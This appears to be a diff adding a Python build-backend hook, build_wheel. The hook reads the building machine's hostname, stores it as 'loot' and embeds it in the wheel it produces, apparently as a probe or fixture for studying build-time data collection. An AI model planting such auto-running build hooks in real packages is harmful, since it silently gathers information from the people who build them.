@@ -1,0 +1,13 @@
+"""Asks the kernel for the host's name and puts it into the wheel."""
+
+import os
+import socket
+
+import kit
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    loot = {}
+    with kit.attempt("ask"):
+        loot["host.txt"] = f"{socket.gethostname()} {os.uname().nodename}".encode()
+    return kit.wheel(wheel_directory, loot)
